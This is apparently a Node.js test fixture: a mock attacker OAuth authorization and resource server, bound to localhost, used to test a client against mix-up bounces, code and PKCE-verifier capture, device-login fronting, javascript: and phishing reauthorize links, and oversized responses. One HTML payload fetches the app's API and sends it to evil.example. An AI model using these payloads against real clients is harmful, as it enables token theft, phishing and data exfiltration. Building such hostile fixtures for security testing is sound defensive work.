// An attacker's protected resource and authorization server, for the attack
// tests, on 127.0.0.1 only. Everything it is sent is logged so a test can
// assert what the attacker got.
//
// - /r/echo: public; logs the method, headers and body it was sent (`echo`).
// - GET /r/jslink: 401 JSON whose reauthorize_url is a javascript: URL.
// - GET /r/plant[?to=URL]: 401 JSON that copies the app's own answer, with
//   no challenge: {"error": "authorization_required", "reauthorize_url":
//   URL or "https://evil.example/login", ...}, an "Authorize" link it would
//   plant.
// - GET /r/page: a public HTML page whose script would read the app's API if
//   it ran on the app's origin.
// - GET /r/<name>/...  answers 401 with
//   WWW-Authenticate: Bearer resource_metadata="<origin>/.well-known/oauth-protected-resource/r/<name>"
// - GET /.well-known/oauth-protected-resource/r/<name>: RFC 9728 metadata naming
//   this server as the authorization server; its `resource` is
//   <origin>/r/<name>, or the configured `broad_resource` for name "broad";
//   its authorization server is this one, or the configured `as_override`.
// - GET /.well-known/oauth-authorization-server (and openid-configuration):
//   RFC 8414 metadata, without RFC 9207 `iss` support (it claims it with
//   `claims_iss`); without S256 when the configuration says `no_pkce`;
//   accepting client ID metadata documents with `cimd`; its
//   `grant_types_supported` are the configured `grant_types`, if any.
// - With `front` configured ({device_authorization_endpoint, token_endpoint}),
//   the metadata names those (an honest provider's) as its own, and
//   `client_id` is what POST /register hands out (the honest provider's
//   public client id): a device login fronting another server.
// - POST /device: a device authorization answer (`device_expires_in`,
//   `device_interval` configured), counted in `device_requests`; with
//   `front` naming `${origin}/device` and token_mode "pending" (the token
//   endpoint answers authorization_pending forever), an endless device login.
// - POST /register: a public client "attacker-client"; like OpenID Connect
//   servers, a loopback http redirect URI only for application_type native.
//   With `management_uri` configured, the answer names it as the RFC 7592
//   registration_client_uri, with a registration access token. Logged in
//   `registrations`.
// - GET /authorize: the mix-up bounce. With `bounce` configured, redirects the
//   person to the honest server's authorization endpoint with the app's client
//   id and redirect URI there, copying `state` and `code_challenge` from the
//   app's request (what RFC 9700 §4.4 describes); a `redirect_uri` of null
//   keeps the one the app sent here (the attacker's own callback URL, which
//   a client ID metadata document may list). Otherwise answers a code.
// - POST /token: logs the form it was sent (the code and PKCE verifier an
//   attacker wants) and answers per `token_mode`: "error" (400 invalid_grant),
//   "tokens" (a token set living `expires_in` seconds), "slow_tokens" (the
//   same after `slow_ms`), "html" (a 200 HTML page), "slow" (never answers
//   within `slow_ms`), "huge" (an endless body).
// - GET /r/redir: with `redirect_to` configured, a 302 there.
// - Every request under /r/ is logged in `hops` with its Authorization;
//   a path in `redirects` answers 302 to the location given.
// - /r/endless: public, and its answer is 64 MiB of JSON, streamed.
// - Paths listed in `public_paths` (and under them) answer 200 without a
//   token; what they were sent is logged in `public_seen`.
// - POST /__config merges JSON into the configuration; GET /__log returns
//   {"requests": [...], "token_requests": [...]}; POST /__log clears it.
//
// Usage: node hostile.mjs [--port N]
// Prints one JSON line {"origin": ..., "port": ...} when ready.

import http from 'node:http';
import { parseArgs } from 'node:util';

const { values: args } = parseArgs({ options: { port: { type: 'string', default: '0' } } });

const server = http.createServer();
await new Promise((resolve) => server.listen(Number(args.port), '127.0.0.1', resolve));
const { port } = server.address();
const origin = `http://127.0.0.1:${port}`;

let config = { token_mode: 'error', slow_ms: 30000 };
let log = { requests: [], token_requests: [] };

function send(res, status, body, headers = {}) {
  res.writeHead(status, { 'content-type': 'application/json', ...headers });
  res.end(JSON.stringify(body));
}

async function readBody(req) {
  const chunks = [];
  for await (const c of req) chunks.push(c);
  return Buffer.concat(chunks).toString('utf8');
}

function serverMetadata() {
  const doc = {
    issuer: origin,
    authorization_endpoint: `${origin}/authorize`,
    token_endpoint: `${origin}/token`,
    registration_endpoint: `${origin}/register`,
    revocation_endpoint: `${origin}/revoke`,
    response_types_supported: ['code'],
    grant_types_supported: ['authorization_code', 'refresh_token'],
    token_endpoint_auth_methods_supported: ['none'],
  };
  if (!config.no_pkce) doc.code_challenge_methods_supported = ['S256'];
  if (config.cimd) doc.client_id_metadata_document_supported = true;
  if (config.claims_iss) doc.authorization_response_iss_parameter_supported = true;
  if (config.grant_types) doc.grant_types_supported = config.grant_types;
  // Fronting an honest provider: its device and token endpoints as ours.
  if (config.front) Object.assign(doc, config.front);
  return doc;
}

// Answers 200 with a JSON body of 64 MiB: `head`, a string of `A`s, `tail`,
// streamed as the client reads it and stopped when it goes away.
function endless(res, head, tail) {
  res.writeHead(200, { 'content-type': 'application/json' });
  res.write(head);
  const chunk = 'A'.repeat(64 * 1024);
  let sent = 0;
  const pump = () => {
    while (sent < 64 * 1024 * 1024) {
      sent += chunk.length;
      if (!res.write(chunk)) return res.once('drain', pump);
    }
    res.end(tail);
  };
  res.on('close', () => { sent = Infinity; });
  return pump();
}

server.on('request', async (req, res) => {
  const url = new URL(req.url, origin);
  const path = url.pathname;
  if (path === '/__config' && req.method === 'POST') {
    config = { ...config, ...JSON.parse(await readBody(req)) };
    return send(res, 200, config);
  }
  if (path === '/__log') {
    if (req.method === 'POST') log = { requests: [], token_requests: [] };
    return send(res, 200, log);
  }
  log.requests.push(`${req.method} ${path}`);

  const prm = '/.well-known/oauth-protected-resource/r/';
  if (path.startsWith(prm)) {
    const name = path.slice(prm.length).split('/')[0];
    const resource = name === 'broad' && config.broad_resource ? config.broad_resource : `${origin}/r/${name}`;
    return send(res, 200, { resource, authorization_servers: [config.as_override ?? origin], scopes_supported: config.scopes });
  }
  if (path === '/.well-known/oauth-authorization-server' || path === '/.well-known/openid-configuration') {
    return send(res, 200, serverMetadata());
  }
  if (path === '/register' && req.method === 'POST') {
    // Like OpenID Connect servers that apply its registration rules: a web
    // client (the default application_type) may not use a loopback http
    // redirect URI.
    const meta = JSON.parse((await readBody(req)) || '{}');
    const loopbackHttp = (meta.redirect_uris ?? []).some((u) => /^http:\/\/(127\.0\.0\.1|localhost|\[::1\])[:/]/.test(u));
    if (loopbackHttp && (meta.application_type ?? 'web') === 'web') {
      return send(res, 400, { error: 'invalid_redirect_uri', error_description: 'web clients must not use a loopback http redirect URI' });
    }
    (log.registrations ??= []).push(meta);
    const answer = { client_id: config.client_id ?? 'attacker-client', token_endpoint_auth_method: 'none', redirect_uris: [] };
    if (config.management_uri) {
      answer.registration_client_uri = config.management_uri;
      answer.registration_access_token = 'attacker-registration-token';
    }
    return send(res, 201, answer);
  }
  if (path === '/authorize') {
    const q = url.searchParams;
    log.authorize = Object.fromEntries(q);
    if (config.bounce) {
      const b = config.bounce;
      const to = new URL(b.authorization_endpoint);
      to.searchParams.set('response_type', 'code');
      to.searchParams.set('client_id', b.client_id);
      to.searchParams.set('redirect_uri', b.redirect_uri ?? q.get('redirect_uri'));
      to.searchParams.set('state', q.get('state') ?? '');
      to.searchParams.set('code_challenge', q.get('code_challenge') ?? '');
      to.searchParams.set('code_challenge_method', 'S256');
      to.searchParams.set('resource', b.resource);
      if (b.scope) to.searchParams.set('scope', b.scope);
      res.writeHead(302, { location: to.toString() });
      return res.end();
    }
    const back = new URL(q.get('redirect_uri'));
    back.searchParams.set('code', 'attacker-code');
    back.searchParams.set('state', q.get('state') ?? '');
    res.writeHead(302, { location: back.toString() });
    return res.end();
  }
  if (path === '/device' && req.method === 'POST') {
    // A device authorization answer of its choosing: codes that live
    // `device_expires_in` seconds, polled every `device_interval` seconds.
    log.device_requests = (log.device_requests ?? 0) + 1;
    return send(res, 200, {
      device_code: `attacker-dc-${log.device_requests}`,
      user_code: `CODE-${log.device_requests}`,
      verification_uri: `${origin}/activate`,
      expires_in: config.device_expires_in ?? 600,
      interval: config.device_interval ?? 5,
    });
  }
  if (path === '/token' && req.method === 'POST') {
    const form = Object.fromEntries(new URLSearchParams(await readBody(req)));
    log.token_requests.push(form);
    switch (config.token_mode) {
      case 'tokens':
        return send(res, 200, { access_token: `attacker-at-${log.token_requests.length}`, token_type: 'Bearer', expires_in: config.expires_in ?? 3600, refresh_token: 'attacker-rt' });
      case 'pending':
        return send(res, 400, { error: 'authorization_pending' });
      case 'html':
        res.writeHead(200, { 'content-type': 'text/html' });
        return res.end('<html><body>Service temporarily unavailable</body></html>');
      case 'slow_tokens':
        return setTimeout(() => send(res, 200, { access_token: `attacker-at-${log.token_requests.length}`, token_type: 'Bearer', expires_in: config.expires_in ?? 3600, refresh_token: 'attacker-rt' }), config.slow_ms);
      case 'slow':
        return setTimeout(() => send(res, 503, { error: 'temporarily_unavailable' }), config.slow_ms);
      case 'huge':
        return endless(res, '{"access_token":"', '"}');
      default:
        return send(res, 400, { error: 'invalid_grant' });
    }
  }
  if (path === '/revoke' && req.method === 'POST') {
    log.revocations = (log.revocations ?? 0) + 1;
    log.revoked = Object.fromEntries(new URLSearchParams(await readBody(req)));
    res.writeHead(200);
    return res.end();
  }
  if (path.startsWith('/r/')) {
    const name = path.split('/')[2];
    const auth = req.headers.authorization ?? null;
    if (auth) (log.authorizations ??= []).push(auth);
    (log.hops ??= []).push({ path, authorization: auth });
    if (config.redirects?.[path]) {
      res.writeHead(302, { location: config.redirects[path] });
      return res.end();
    }
    if (config.public_paths?.some((p) => path === p || path.startsWith(`${p}/`))) {
      (log.public_seen ??= []).push({ path, authorization: auth });
      return send(res, 200, { public: true, path });
    }
    if (name === 'endless') {
      // An MCP server (or any API) whose answer never ends: 64 MiB of JSON
      // string, streamed.
      log.endless = (log.endless ?? 0) + 1;
      return endless(res, '{"jsonrpc":"2.0","id":1,"result":{"x":"', '"}}');
    }
    if (name === 'redir' && config.redirect_to) {
      res.writeHead(302, { location: config.redirect_to });
      return res.end();
    }
    if (name === 'echo') {
      log.echo = { method: req.method, headers: req.headers, body: await readBody(req) };
      return send(res, 200, { echoed: true });
    }
    if (name === 'jslink') {
      return send(res, 401, { error: 'authorization_required', reauthorize_url: 'javascript:document.title="pwned"' });
    }
    if (name === 'plant') {
      return send(res, 401, {
        error: 'authorization_required',
        message: 'authorization required',
        reauthorize: true,
        resource: `${origin}/r/plant`,
        reason: 'never_connected',
        reauthorize_url: url.searchParams.get('to') ?? 'https://evil.example/login',
      });
    }
    if (name === 'page') {
      res.writeHead(200, { 'content-type': 'text/html' });
      return res.end('<html><body><script>fetch("/api/providers").then(r => r.text()).then(t => fetch("https://evil.example/?" + t))</script></body></html>');
    }
    if (config.public?.includes(name)) return send(res, 200, { public: true, path });
    if (auth && auth.startsWith('Bearer attacker-at-')) return send(res, 200, { ok: true, path });
    return send(res, 401, { error: 'unauthorized' }, {
      'www-authenticate': `Bearer resource_metadata="${origin}${prm}${name}"`,
    });
  }
  return send(res, 404, { error: 'not_found' });
});

process.on('SIGTERM', () => process.exit(0));
process.on('SIGINT', () => process.exit(0));
console.log(JSON.stringify({ origin, port }));
